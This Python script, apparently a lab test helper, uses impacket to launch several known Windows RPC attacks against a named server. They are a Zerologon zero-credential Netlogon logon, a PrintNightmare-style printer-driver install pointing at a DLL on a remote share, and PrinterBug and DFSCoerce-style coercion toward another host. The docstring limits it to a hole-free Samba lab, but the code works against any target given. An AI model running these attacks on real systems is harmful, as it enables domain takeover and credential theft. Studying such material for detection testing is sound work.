"""Try known holes of Windows on a server: ``break_in HOLE SERVER [ELSEWHERE]``; or only log on.

Only on the samba of `tests.lab.scenes.exploit`, which has none of them: it says no, and what is
recorded is the attempt. Runs with Debian's Python, which has impacket.
"""

import secrets
import sys
from contextlib import suppress

from impacket.dcerpc.v5 import nrpc, rprn, transport
from impacket.dcerpc.v5.dtypes import DWORD, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import uuidtup_to_bin

_TRIES = 12
_ZEROS = bytes(8)
_NETDFS = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))
_FLAGS = 0x212FFFFF


class NetrDfsRemoveStdRoot(NDRCALL):
    """[MS-DFSNM] section 3.1.4.4.2."""

    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


def bound(server: str, pipe: str, interface: bytes) -> object:
    """Open a pipe of *server* as nobody, and bind *interface*."""
    call = transport.DCERPCTransportFactory(rf"ncacn_np:{server}[\pipe\{pipe}]")
    call.set_credentials("", "")
    dce = call.get_dce_rpc()
    dce.connect()
    dce.bind(interface)
    return dce


def zeros(server: str, _elsewhere: str) -> None:
    """Log on as the server itself, with zeros for a password, again and again."""
    for _ in range(_TRIES):
        dce = bound(server, "netlogon", nrpc.MSRPC_UUID_NRPC)
        with suppress(DCERPCException):
            nrpc.hNetrServerReqChallenge(dce, "\\\\SERVEUR\0", "SERVEUR\0", _ZEROS)
            channel = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
            names = ("\\\\SERVEUR\0", "SERVEUR$\0", channel, "SERVEUR\0")
            nrpc.hNetrServerAuthenticate3(dce, *names, _ZEROS, _FLAGS)


def member(server: str, _elsewhere: str) -> None:
    """Log on as a computer does that left the domain and has not noticed."""
    for _ in range(_TRIES):
        dce = bound(server, "netlogon", nrpc.MSRPC_UUID_NRPC)
        with suppress(DCERPCException):
            mine = secrets.token_bytes(8)
            given = nrpc.hNetrServerReqChallenge(dce, "\\\\SERVEUR\0", "ACCUEIL\0", mine)
            key = nrpc.ComputeSessionKeyAES("", mine, given["ServerChallenge"], bytes(16))
            proof = nrpc.ComputeNetlogonCredentialAES(mine, key)
            channel = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel
            names = ("\\\\SERVEUR\0", "ACCUEIL$\0", channel, "ACCUEIL\0")
            nrpc.hNetrServerAuthenticate3(dce, *names, proof, _FLAGS)


def driver(server: str, elsewhere: str) -> None:
    """Give the printing service a driver that lies on another machine."""
    dce = bound(server, "spoolss", rprn.MSRPC_UUID_RPRN)
    container = rprn.DRIVER_CONTAINER()
    container["Level"] = 2
    container["DriverInfo"]["tag"] = 2
    about = container["DriverInfo"]["Level2"]
    about["cVersion"] = 3
    about["pName"] = "1234\0"
    about["pEnvironment"] = "Windows x64\0"
    about["pDriverPath"] = "C:\\Windows\\System32\\UNIDRV.DLL\0"
    about["pDataFile"] = f"\\\\{elsewhere}\\partage\\pilote.dll\0"
    about["pConfigFile"] = "C:\\Windows\\System32\\winhttp.dll\0"
    for _ in range(3):
        with suppress(DCERPCException):
            rprn.hRpcAddPrinterDriverEx(
                dce, pName=f"\\\\{server}\0", pDriverContainer=container, dwFileCopyFlags=0x8014
            )


def notice(server: str, elsewhere: str) -> None:
    """Ask the printing service to tell another machine what happens."""
    dce = bound(server, "spoolss", rprn.MSRPC_UUID_RPRN)
    with suppress(DCERPCException):
        handle = rprn.hRpcOpenPrinter(dce, f"\\\\{server}\0")["pHandle"]
        asked = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
        asked["hPrinter"] = handle
        asked["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
        asked["pszLocalMachine"] = f"\\\\{elsewhere}\0"
        asked["pOptions"] = NULL
        dce.request(asked)


def root(server: str, elsewhere: str) -> None:
    """Ask for a root of shares on another machine to be removed."""
    dce = bound(server, "netdfs", _NETDFS)
    asked = NetrDfsRemoveStdRoot()
    asked["ServerName"] = f"{elsewhere}\0"
    asked["RootShare"] = "essai\0"
    asked["ApiFlags"] = 1
    with suppress(DCERPCException):
        dce.request(asked)


HOLES = {"zeros": zeros, "member": member, "driver": driver, "notice": notice, "root": root}

if __name__ == "__main__":
    hole, server, *elsewhere = sys.argv[1:]
    HOLES[hole](server, "".join(elsewhere))
